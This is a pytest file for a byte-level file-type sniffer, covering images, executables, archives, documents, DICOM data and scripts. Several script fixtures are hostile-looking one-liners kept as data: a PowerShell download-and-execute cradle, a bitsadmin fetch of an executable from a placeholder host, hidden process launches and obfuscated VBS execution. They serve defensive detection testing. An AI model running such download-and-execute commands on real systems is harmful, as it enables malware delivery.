"""Type detection from bytes: own signatures, validated headers, text heuristics."""

from __future__ import annotations

import gzip
import io
import struct

import pytest
from jpeg_samples import pe_executable, photo, zip_archive
from PIL import Image

from agent.inspect.reader import Reader
from agent.inspect.sniff import FAMILIES, sniff


def kind(data: bytes, name: str = "") -> tuple[str, str]:
    found = sniff(Reader.from_bytes(data), name_hint=name)
    assert found.family in FAMILIES
    return found.type, found.family


def pillow(fmt: str, **options: object) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (8, 6), (10, 20, 30)).save(out, fmt, **options)
    return out.getvalue()


@pytest.mark.parametrize(
    ("fmt", "expected"),
    [
        ("JPEG", "jpeg"),
        ("PNG", "png"),
        ("GIF", "gif"),
        ("WEBP", "webp"),
        ("BMP", "bmp"),
        ("TIFF", "tiff"),
        ("ICO", "ico"),
    ],
)
def test_real_images_made_by_pillow(fmt: str, expected: str) -> None:
    assert kind(pillow(fmt)) == (expected, "image")


def test_isobmff_brands() -> None:
    def ftyp(major: bytes, *compatible: bytes) -> bytes:
        body = major + b"\x00\x00\x00\x00" + b"".join(compatible)
        return struct.pack(">I", 8 + len(body)) + b"ftyp" + body + bytes(64)

    assert kind(ftyp(b"heic", b"mif1", b"heic")) == ("heif", "image")
    assert kind(ftyp(b"mif1", b"mif1", b"miaf")) == ("heif", "image")
    assert kind(ftyp(b"avif", b"avif", b"mif1")) == ("avif", "image")
    assert kind(ftyp(b"isom", b"isom", b"mp41")) == ("mp4", "video")
    assert kind(ftyp(b"qt  ")) == ("mp4", "video")


def test_executables_and_archives() -> None:
    assert kind(pe_executable()) == ("pe", "executable")
    assert kind(b"\x7fELF\x02\x01\x01" + bytes(100)) == ("elf", "executable")
    assert kind(b"\xcf\xfa\xed\xfe" + bytes(100)) == ("macho", "executable")
    assert kind(b"L\x00\x00\x00\x01\x14\x02\x00" + bytes(100)) == ("lnk", "executable")
    assert kind(zip_archive())[1] == "archive"
    assert kind(b"Rar!\x1a\x07\x01\x00" + bytes(20)) == ("rar", "archive")
    assert kind(b"7z\xbc\xaf\x27\x1c" + bytes(20)) == ("7z", "archive")
    assert kind(gzip.compress(b"hello", mtime=0)) == ("gzip", "archive")


def test_svg_plain_with_prologue_and_gzipped() -> None:
    svg = (
        b'<?xml version="1.0"?>\n<!-- c -->\n'
        b'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "x">\n'
        b'<svg xmlns="http://www.w3.org/2000/svg"/>'
    )
    assert kind(svg) == ("svg", "svg")
    assert kind(b"\xef\xbb\xbf  <svg>") == ("svg", "svg")
    assert kind(gzip.compress(svg, mtime=0)) == ("svg", "svg")


def test_documents_and_imagemagick() -> None:
    assert kind(b"%PDF-1.7\n...") == ("pdf", "document")
    assert kind(b"x" * 1100 + b"%PDF-1.4\n")[0] == "text"  # past Acrobat's 1024-byte window
    assert kind(b"junk" * 100 + b"%PDF-1.4\n") == ("pdf", "document")
    assert kind(b"%!PS-Adobe-3.0\n") == ("postscript", "document")
    assert kind(b"AT&TFORM\x00\x00\x00\x10DJVM") == ("djvu", "document")
    assert kind(b"push graphic-context\nviewbox 0 0 640 480\n") == ("mvg", "imagemagick")
    assert kind(b'<?xml version="1.0"?><image><read filename="x.png"/></image>') == (
        "msl",
        "imagemagick",
    )


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (b"<!DOCTYPE html><html><body>x</body></html>", "html"),
        (b"  \n<HTML><script>x</script>", "html"),
        (b"<script>alert(1)</script>", "html"),
        (b"<iframe src=x>", "html"),
        (b"<?php echo 1; ?>", "php"),
        (b"<?= $x ?>", "php"),
        (b"#!/bin/sh\necho hi\n", "shell"),
        (b"$c = New-Object Net.WebClient; IEX ($c.DownloadString('http://x'))", "powershell"),
        (b'Set s = CreateObject("WScript.Shell")\nDim a\n', "vbs"),
        (b"@echo off\r\nstart calc.exe\r\n", "batch"),
        (b"var a = 1; function f(x) { document.write(x) }", "js"),
    ],
)
def test_scripts(text: bytes, expected: str) -> None:
    assert kind(text) == (expected, "script")


def test_eicar_is_recognised() -> None:
    eicar = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
    assert kind(eicar) == ("eicar", "executable")


def test_plain_text_and_english_prose_are_text() -> None:
    assert kind(b"Dear doctor, please start the exam at nine.\nThanks\n") == ("text", "text")


def test_bmp_and_ico_need_sane_headers() -> None:
    assert kind(b"BM" + bytes(60))[0] != "bmp"  # no DIB header size
    assert kind(b"\x00\x00\x01\x00" + bytes(40))[0] != "ico"  # zero entries


def test_dicom_with_preamble_and_raw_dataset() -> None:
    dicom = bytes(128) + b"DICM" + b"\x02\x00\x00\x00UL\x04\x00" + bytes(4)
    assert kind(dicom) == ("dicom", "dicom")
    tiff_preamble = b"II*\x00" + bytes(124) + b"DICM" + bytes(20)
    assert kind(tiff_preamble) == ("dicom", "dicom")  # dual personality stays DICOM
    raw = b"\x08\x00\x05\x00CS\x0a\x00ISO_IR 100" + bytes(20)
    assert kind(raw, "scan.dcm") == ("dicom", "dicom")
    assert kind(raw, "scan.bin")[0] != "dicom"


def test_empty_and_random_bytes() -> None:
    assert kind(b"") == ("empty", "unknown")
    assert kind(photo())[0] == "jpeg"


def test_fat_macho_and_java_class_share_cafebabe() -> None:
    fat = b"\xca\xfe\xba\xbe" + struct.pack(">I", 2) + struct.pack(">5I", 7, 3, 4096, 8192, 12)
    assert kind(fat + bytes(100)) == ("macho", "executable")
    assert kind(b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + bytes(100)) == ("java_class", "executable")


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (b"$c = [Convert]::FromBase64String('AAAA')\r\n", "powershell"),
        (b"Start-Process -WindowStyle Hidden cmd.exe\r\n", "powershell"),
        (b"On Error Resume Next\r\nExecute(Chr(77) & Chr(115))\r\n", "vbs"),
        (b"set p=%TEMP%\\a.exe\r\nbitsadmin /transfer j http://x.invalid/a %p%\r\n", "batch"),
        (b"var s = new ActiveXObject('WScript.Shell'); s.Run('calc.exe');", "js"),
    ],
)
def test_scripts_recognised_by_the_shared_tokens(text: bytes, expected: str) -> None:
    assert kind(text) == (expected, "script")


@pytest.mark.parametrize(
    "prose",
    [
        b"Set up the chair.\nStart the scanner.\nCall the patient.\n",
        b"Dim lighting, please.\nSub total (2 items) paid.\n",
        b"Allergy alert (penicillin) - see chart before treatment.\n",
        b"Post-op wound eval(day 3), healing well.\n",
    ],
)
def test_prose_with_script_words_is_text(prose: bytes) -> None:
    assert kind(prose) == ("text", "text")
